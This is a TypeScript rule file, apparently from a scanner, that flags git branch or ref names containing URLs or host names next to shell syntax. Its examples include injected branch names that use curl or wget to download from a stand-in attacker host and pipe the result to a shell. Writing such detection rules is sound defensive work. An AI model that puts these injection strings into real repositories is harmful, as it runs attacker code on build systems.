// CG-REF-008: a URL or host name inside a ref name (where a payload downloads from).
import type {RuleMeta} from '../../report/rule-meta.js'
import type {Hit, NameRule} from '../types.js'
import {COMMAND_SUBSTITUTION, CONTROL, IFS, PIPE_INTERPRETER, STRONG_HOST, URL_SCHEME, WEAK_HOST} from './patterns.js'

export const meta: RuleMeta = {
  id: 'CG-REF-008',
  title: 'URL or host inside a ref name',
  severity: 'medium',
  description:
    'A URL scheme, or a host name next to shell syntax (hackmoltrepeat.com, raw.githubusercontent.com/…), is where an injected command downloads its payload from. Host names alone are ordinary in bot branches (dependabot/go_modules/golang.org/x/net-0.17.0, renovate/github.com-pkg-errors-0.x) and are not reported.',
  remediation: 'rename the branch; block the host if the name came from an untrusted pull request',
  example: {bad: `x;curl\${IFS}hackmoltrepeat.com/molt|sh`, good: 'dependabot/go_modules/golang.org/x/net-0.17.0'},
  examples: {
    flagged: [`x;curl\${IFS}hackmoltrepeat.com/molt|sh`, `main$(wget\${IFS}-qO-\${IFS}https://evil.example/x)`],
    clean: ['dependabot/go_modules/golang.org/x/net-0.17.0', 'renovate/github.com-actions-checkout-4.x'],
  },
}

export const rule: NameRule = {
  meta,
  check(name: string): Hit[] {
    const scheme = URL_SCHEME.exec(name)
    if (scheme) return [{message: `URL scheme "${scheme[0]}" in the name`}]
    // dependabot/go_modules/golang.org/x/net-0.17.0 and renovate/github.com-… are ordinary names:
    // a host counts only next to shell syntax, where it tells where the payload comes from
    const shelly = COMMAND_SUBSTITUTION.test(name) || IFS.test(name) || CONTROL.test(name) || PIPE_INTERPRETER.test(name) || /\{[^}]*,/.test(name)
    if (!shelly) return []
    const host = STRONG_HOST.exec(name) ?? WEAK_HOST.exec(name)
    return host ? [{message: `host name "${host[0]}" next to shell syntax in the name`}] : []
  },
}
